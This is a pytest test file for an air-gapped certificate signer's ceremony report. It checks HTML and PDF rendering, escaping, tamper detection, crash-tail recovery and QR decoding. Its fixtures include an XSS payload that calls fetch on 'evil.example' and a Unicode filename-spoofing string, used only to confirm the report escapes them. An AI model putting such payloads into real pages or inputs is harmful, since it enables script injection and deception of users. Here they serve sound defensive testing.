"""The ceremony report: facts from the log, escaped, self-contained; the HTML rendered by
Chromium, the PDF read back by poppler (text, and QR codes on the rasterised pages).

The log here is built with a software Ed25519 key (no token); the CLI's `audit report` on a
real rehearsal home is covered in tests/cli/test_audit.py.
"""

from __future__ import annotations

import hashlib
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from signer.errors import SignerError, UsageError
from signer.service.audit import audit_verify
from signer.service.report import collect, digest_words, render_report, write_report
from signer.store.log import CeremonyLog
from signer.store.log.recovery import (
    CrashTail,
    check_log_for_session,
    diagnose,
    set_aside,
    undo,
)
from tests.pdf_pages import needs_poppler, pdf_text, qr_texts, rasterise, shows

ORIGIN = "rehearsal.example.org/airgap-signer"
SK = Ed25519PrivateKey.from_private_bytes(b"\x05" * 32)
PUB = SK.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
T = "2026-11-29T10:00:00Z"
DIGEST = "a3" * 32
LOCK = "e7" * 32  # the lock file's digest, as signer --version prints it
HOSTILE = '<img src=x onerror=alert(1)><script>fetch("http://evil.example/")</script>'


def build_log(path: Path) -> CeremonyLog:
    log = CeremonyLog.open(path, ORIGIN, create=True)
    log.append("appliance.init", {"rehearsal": True, "token": "hier"}, T)
    log.append("session.open", {"version": "0.1.0", "lock_sha256": LOCK,
                                "rehearsal": True, "share_indices": [1, 3],
                                "token": {"label": "hier", "serial": "42", "model": "SoftHSM"},
                                "interfaces_up": ["eth0"]}, T)
    log.append("ca.created", {"ca": "class1", "kind": "sub", "issuer": "root", "serial": "1f",
                              "cert_sha256": "b4" * 32, "spki_sha256": "b5" * 32, "key": "k",
                              "key_algorithm": "ec-p256", "key_attributes": None,
                              "lint_findings": []}, T)
    log.append("batch.imported", {"batch": "ra1-1", "ra": "ra1", "ra_key_id": "a1" * 32,
                                  "sequence": 1, "digest": DIGEST, "requests": 3, "accepted": 1,
                                  "rejected": 2, "decisions_sha256": "a2" * 32,
                                  "revocations_sha256": "a3" * 32, "revocations": 0,
                                  "blocklist_sha256": None, "created": T}, T)
    log.append_many("verdict", [
        {"batch": "ra1-1", "id": "good", "verdict": "accept", "codes": [],
         "decision_sha256": "a4" * 32, "ca": "class1", "days": 365,
         "names": [], "personal_name": None, "profile": "server", "spki_sha256": None,
         "subscriber": "m1"},
        {"batch": "ra1-1", "id": HOSTILE, "verdict": "reject", "codes": ["name.unverified"],
         "decision_sha256": "a5" * 32, "ca": "class1", "days": 365,
         "names": [], "personal_name": None, "profile": "server", "spki_sha256": None,
         "subscriber": "m1"},
        {"batch": "ra1-1", "id": "ca", "verdict": "reject", "codes": ["ext.ca", "name.unverified"],
         "decision_sha256": "a6" * 32, "ca": "class1", "days": 365,
         "names": [], "personal_name": None, "profile": "server", "spki_sha256": None,
         "subscriber": "m1"},
    ], T)
    log.append("cert.issued", {"batch": "ra1-1", "id": "good", "ca": "class1", "serial": "2a",
                               "cert_sha256": "c5" * 32, "subscriber": "m1",
                               "spki_sha256": "c6" * 32,
                               "not_after": "2027-06-01T00:00:00+00:00", "profile": "server",
                               "tbs_sha256": "c7" * 32}, T)
    log.append("refused", {"command": HOSTILE, "error": HOSTILE}, T)
    log.append("crl.issued", {"ca": "class1", "number": 1, "crl_sha256": "d6" * 32,
                              "entries": 0, "this_update": T, "next_update": T, "batch": None,
                              "warning": None}, T)
    log.append("session.close", {}, T)
    log.checkpoint(T, ORIGIN, PUB, SK.sign)
    return log


@pytest.fixture
def report_html(tmp_path: Path) -> tuple[Path, str, CeremonyLog]:
    log = build_log(tmp_path / "ceremony.jsonl")
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    assert audit.ok, audit.text()
    out = tmp_path / "report.html"
    write_report(out, log.path, audit, appliance=ORIGIN, rehearsal=False)
    return out, out.read_text(encoding="utf-8"), log


def test_report_shows_the_facts(report_html):
    out, html, log = report_html
    root = log.root_at(log.last_checkpoint.size).hex()  # type: ignore[union-attr]
    assert "Verification: OK" in html
    assert "REHEARSAL" in html  # from the log's session.open, though the caller said no
    assert DIGEST in html and digest_words(DIGEST) in html
    assert root in html and digest_words(root) in html
    assert "name.unverified \u00d72" in html and "ext.ca \u00d71" in html
    assert re.search(r'id="issued">1<', html) and re.search(r'id="refused">2<', html)
    assert "1, 3" in html  # the custodians' share indices of the session
    assert LOCK in html and digest_words(LOCK) in html  # the software's dependency lock
    assert "d6" * 32 in html and "b4" * 32 in html


def test_a_session_that_recorded_no_lock_says_so(tmp_path):
    # Logs written before sessions recorded the lock digest.
    log = CeremonyLog.open(tmp_path / "ceremony.jsonl", ORIGIN, create=True)
    log.append("session.open", {"version": "0.1.0", "rehearsal": True}, T)
    log.append("session.close", {}, T)
    log.checkpoint(T, ORIGIN, PUB, SK.sign)
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    out = tmp_path / "report.html"
    write_report(out, log.path, audit, appliance=ORIGIN, rehearsal=False)
    assert "<td>not recorded</td>" in out.read_text(encoding="utf-8")


def test_report_is_self_contained_and_escaped(report_html):
    _, html, _ = report_html
    lower = html.lower()
    assert "<script" not in lower
    assert "<img" not in lower
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", lower)
    assert "@import" not in lower and "url(" not in lower
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_report_never_overwrites(report_html, tmp_path):
    out, _, log = report_html
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    with pytest.raises(SignerError, match="already exists"):
        write_report(out, log.path, audit, appliance=ORIGIN, rehearsal=False)


def test_report_of_a_failing_log_says_so_first(tmp_path):
    log = build_log(tmp_path / "ceremony.jsonl")
    lines = log.path.read_bytes().splitlines(keepends=True)
    lines[3] = lines[3].replace(b'"requests":3', b'"requests":4')
    log.path.write_bytes(b"".join(lines))
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    html = render_report(collect(log.path), audit, appliance=ORIGIN, rehearsal=True,
                         log_name="ceremony.jsonl")
    assert not audit.ok
    first = html.index("Verification FAILED")
    assert first < html.index("<h2>") and "unverified log" in html


def test_crash_tail_is_recoverable_and_tampering_is_not(tmp_path):
    log = build_log(tmp_path / "ceremony.jsonl")
    path = log.path
    log.append("session.open", {"version": "0.1.0"}, T)  # a session that never closed ...
    with open(path, "ab") as f:
        f.write(b'{"data":{"batch":"ra1-1"},"seq":1')  # ... killed mid-append
    with pytest.raises(SignerError, match="truncated.*audit recover"):
        check_log_for_session(path, ORIGIN, PUB)
    found = diagnose(path, ORIGIN, PUB)
    assert found.unsigned_tail == 1 and found.truncated_bytes == 33
    before = path.read_bytes()
    rec = set_aside(path, found)
    assert rec.damaged_copy.read_bytes() == before and rec.bytes_removed == 33
    check_log_for_session(path, ORIGIN, PUB, recovery=True)  # unsigned tail: allowed here only
    # A clean unsigned tail is handed to the session to judge (issue 15: crash_tail).
    tail = check_log_for_session(path, ORIGIN, PUB)
    assert isinstance(tail, CrashTail) and tail.report.unsigned_tail == 1
    assert "1 entries after the last signed checkpoint" in (tail.report.first_error or "")
    undo(path, rec)  # e.g. the PIN was wrong: the log is as it was
    assert path.read_bytes() == before
    rec2 = set_aside(path, found)
    assert rec2.damaged_copy.name.endswith(".damaged-2")  # never overwritten

    edited = tmp_path / "edited.jsonl"
    edited.write_bytes(rec.damaged_copy.read_bytes().replace(b'"sequence":1', b'"sequence":2'))
    with pytest.raises(SignerError, match="call the auditors"):
        diagnose(edited, ORIGIN, PUB)
    with pytest.raises(SignerError, match="call the auditors"):
        check_log_for_session(edited, ORIGIN, PUB, recovery=True)


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--no-first-run", "--disable-sync",
                  "--disable-extensions", "--disable-default-apps"]


@pytest.mark.skipif(_chromium() is None, reason="Debian package `chromium` is not installed")
def test_report_renders_in_headless_chromium(report_html, tmp_path):
    out, _, log = report_html
    exe = _chromium()
    assert exe is not None
    png = tmp_path / "report.png"
    with tempfile.TemporaryDirectory() as profile:
        shot = subprocess.run(
            [exe, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", f"--screenshot={png}",
             "--window-size=1200,2000", out.as_uri()],
            capture_output=True, text=True, timeout=60)
    assert shot.returncode == 0, shot.stderr[-2000:]
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (1200, 2000)
    assert len(data) > 20_000  # a page of text and tables, not a blank image
    with tempfile.TemporaryDirectory() as profile:
        dom = subprocess.run(
            [exe, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--dump-dom", out.as_uri()],
            capture_output=True, text=True, timeout=60)
    assert dom.returncode == 0, dom.stderr[-2000:]
    root = log.root_at(log.last_checkpoint.size).hex()  # type: ignore[union-attr]
    text = dom.stdout
    assert DIGEST in text and digest_words(DIGEST) in text
    assert digest_words(root) in text
    assert re.search(r'id="issued">1<', text) and re.search(r'id="refused">2<', text)
    assert "Verification: OK" in text
    assert "<script" not in text.lower()  # nothing executable survived into the DOM


# -- the PDF: what prints on the appliance, which has no browser --------------------------------

UNICODE_HOSTILE = "bank\u202eexe.gpj\u0000"


@pytest.fixture
def report_pdf(tmp_path: Path) -> tuple[Path, CeremonyLog]:
    log = build_log(tmp_path / "ceremony.jsonl")
    log.append("session.open", {"version": "0.1.0", "rehearsal": True,
                                "token": {"label": UNICODE_HOSTILE}}, T)
    log.append("session.close", {}, T)
    log.checkpoint(T, ORIGIN, PUB, SK.sign)
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    assert audit.ok, audit.text()
    out = tmp_path / "report.pdf"
    write_report([out, tmp_path / "report.html"], log.path, audit, appliance=ORIGIN,
                 rehearsal=False, log_public_key=PUB)
    return out, log


@needs_poppler
def test_report_pdf_reads_back_the_facts_and_words(report_pdf):
    out, log = report_pdf
    assert out.read_bytes()[:5] == b"%PDF-" and out.stat().st_mode & 0o777 == 0o644
    text = pdf_text(out, layout=False)
    flat = " ".join(text.split())
    assert flat.startswith(f"Ceremony report: {ORIGIN} REHEARSAL") and "Verification: OK" in flat
    root = log.root_at(log.last_checkpoint.size).hex()  # type: ignore[union-attr]
    for digest in (DIGEST, LOCK, root, "d6" * 32, "b4" * 32, hashlib.sha256(PUB).hexdigest()):
        # In groups of 16 (a table column wraps them), then its words, as witnesses read it.
        assert shows(text, " ".join(digest[i:i + 16] for i in range(0, 64, 16))), digest
        assert shows(text, digest_words(digest)), digest
    assert shows(text, "name.unverified \u00d72")
    # Hostile strings are text in a PDF; outside Latin-1 they are shown escaped, never raw.
    assert "<script>" in flat and "\\u202e" in flat and "\\x00" in flat and "\u202e" not in text


@needs_poppler
def test_report_pdf_qr_codes_decode_to_the_key_and_the_checkpoint(report_pdf, tmp_path):
    out, log = report_pdf
    pages = rasterise(out, tmp_path)
    found = [qr_texts(p) for p in pages]
    codes = [c for zx, _ in found for c in zx]
    assert [c for _, zb in found for c in zb] == codes  # zbar reads what zxing-cpp reads
    note = log.checkpoints()[-1][2]
    fingerprint = "AIRGAP-SIGNER:LOGKEY:SHA256:" + hashlib.sha256(PUB).hexdigest().upper()
    assert sorted(codes) == sorted([fingerprint, note])
    # The scanned note is a checkpoint of this log, as `audit verify --checkpoint` takes it.
    assert audit_verify(log.path, PUB, origin=ORIGIN, anchor=codes[codes.index(note)]).ok


@needs_poppler
def test_report_pdf_of_a_failing_log_says_so_first(tmp_path):
    log = build_log(tmp_path / "ceremony.jsonl")
    lines = log.path.read_bytes().splitlines(keepends=True)
    lines[3] = lines[3].replace(b'"requests":3', b'"requests":4')
    log.path.write_bytes(b"".join(lines))
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    out = tmp_path / "failed.pdf"
    write_report(out, log.path, audit, appliance=ORIGIN, rehearsal=True)
    flat = " ".join(pdf_text(out, layout=False).split())
    assert flat.index("Verification FAILED") < flat.index("Timeline of sessions")
    assert "unverified log" in flat


def test_report_format_is_the_extension(tmp_path):
    log = build_log(tmp_path / "ceremony.jsonl")
    audit = audit_verify(log.path, PUB, origin=ORIGIN)
    with pytest.raises(UsageError, match=r"\.html or \.pdf"):
        write_report(tmp_path / "report.txt", log.path, audit, appliance=ORIGIN,
                     rehearsal=False)
    (tmp_path / "taken.pdf").write_bytes(b"")
    with pytest.raises(SignerError, match="already exists"):  # checked before anything
        write_report([tmp_path / "new.html", tmp_path / "taken.pdf"], log.path, audit,
                     appliance=ORIGIN, rehearsal=False)
    assert not (tmp_path / "new.html").exists()
